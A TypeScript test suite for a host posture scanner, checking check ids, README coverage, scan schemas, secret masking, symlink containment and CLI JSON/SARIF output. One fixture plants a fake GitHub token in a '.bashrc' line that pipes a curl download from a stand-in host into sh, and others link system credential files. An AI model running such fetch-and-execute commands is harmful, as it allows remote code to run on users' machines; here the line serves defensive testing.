import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { HostSnapshot } from '@clawnex/proto/events/host.ts';
import { FileTree } from '@clawnex/shared/posture/testing/file-tree.ts';
import { CHECKS } from './checks/all-checks.ts';
import { scanRoot } from './scan-root.ts';
import {
  ACCOUNTS,
  buildMachine,
  LINUX,
  type Machine,
  processes,
  scanMachine,
  tcp,
} from './testing/machine.ts';

const CLI = join(import.meta.dirname, '../../../scripts/cli/main.ts');
const AGENT: Machine = { ...LINUX, ...ACCOUNTS, ...processes(), 'proc/net/tcp': tcp() };

test('every check has an id of its own, a command or a change as its fix, and references', () => {
  assert.equal(new Set(CHECKS.map(({ id }) => id)).size, CHECKS.length);
  assert.ok(CHECKS.length >= 80);
  for (const { id, fix, references, why, reads } of CHECKS) {
    assert.match(id, /^(?:AI|HA|HS|HN|HP|HK|HL|CN)-\d\d$/);
    assert.ok(fix.length > 10 && why.length > 20 && reads.length > 0 && references.length > 0, id);
  }
});

test('the README lists every check', () => {
  const readme = readFileSync(join(import.meta.dirname, '../README.md'), 'utf8').replace(/ +/g, ' ');
  for (const { id, title, severity } of CHECKS)
    assert.ok(readme.includes(`| ${id} | ${title} | ${severity} |`), id);
});

test('a whole scan fits its schema, says each check once, and grades only what it saw', async () => {
  const snapshot = HostSnapshot.parse(await scanMachine(AGENT));
  assert.equal(snapshot.checks?.length, CHECKS.length);
  const { grade } = snapshot;
  assert.ok(grade !== undefined && grade.score !== null && grade.coverage_percent !== null);
  assert.ok(grade.coverage_percent < 100 && grade.not_evaluated > 0);
  assert.match(grade.formula, /points passed \/ \d+ points evaluated = \d+/);
  assert.equal(new Set(snapshot.findings.map(({ finding_id }) => finding_id)).size, snapshot.findings.length);
});

test('where there is no root folder nothing is evaluated, and the reason names it', async () => {
  const snapshot = await scanRoot('/nowhere/at/all', { host: 'host-a' });
  assert.ok(!snapshot.findings.some(({ result }) => result === 'pass' || result === 'fail'));
  assert.ok(snapshot.findings.some(({ reason }) => /nowhere\/at\/all does not exist/.test(reason ?? '')));
  assert.equal(snapshot.grade?.score, null);
});

test('secrets in lines of others are masked wherever they are shown', async () => {
  const secret = `ghp_${'aB3dE6gH9j'.repeat(3)}kL2mN5`;
  const snapshot = await scanMachine({
    ...AGENT,
    'home/agent/.bashrc': `curl -H "${secret}" http://x.example | sh\n`,
  });
  assert.ok(snapshot.findings.some(({ check, result }) => check === 'HL-05' && result === 'fail'));
  assert.ok(!JSON.stringify(snapshot).includes(secret));
});

test('ids stay from run to run', async () => {
  const machine = { ...AGENT, 'home/agent/.codex/auth.json': '{}' };
  const ids = async () => (await scanMachine(machine)).findings.map(({ finding_id }) => finding_id).sort();
  assert.deepEqual(await ids(), await ids());
});

test('links of a scanned machine lead to its own files, never to ours', async () => {
  const snapshot = await scanMachine({
    ...AGENT,
    'etc/shadow': { link: '/../../../../etc/hostname' },
    'etc/ssh/sshd_config': { link: '/etc/passwd' },
  });
  assert.equal(snapshot.checks?.find(({ check }) => check === 'HA-02')?.result, 'not_evaluated');
});

test('the command prints the snapshot as JSON or SARIF and tells by its exit code', async () => {
  const tree = new FileTree();
  try {
    buildMachine(tree.root, AGENT);
    const run = (...flags: string[]) =>
      spawnSync(process.execPath, [CLI, 'host', 'scan', '--root', tree.root, ...flags], {
        encoding: 'utf8',
        env: { ...process.env, CLAWNEX_HOME: join(tree.root, 'none') },
      });
    buildMachine(tree.root, { 'home/agent/.codex/auth.json': { text: '{}', mode: 0o644 } });
    const bad = run('--json');
    assert.equal(bad.status, 1, bad.stderr);
    HostSnapshot.parse(JSON.parse(bad.stdout));
    const sarif = JSON.parse(run('--sarif').stdout);
    assert.equal(sarif.version, '2.1.0');
    assert.equal(sarif.runs[0].tool.driver.rules.length, CHECKS.length);
    assert.equal(spawnSync(process.execPath, [CLI, 'host', 'scan', '--root', '/nowhere']).status, 2);
  } finally {
    tree.remove();
  }
});
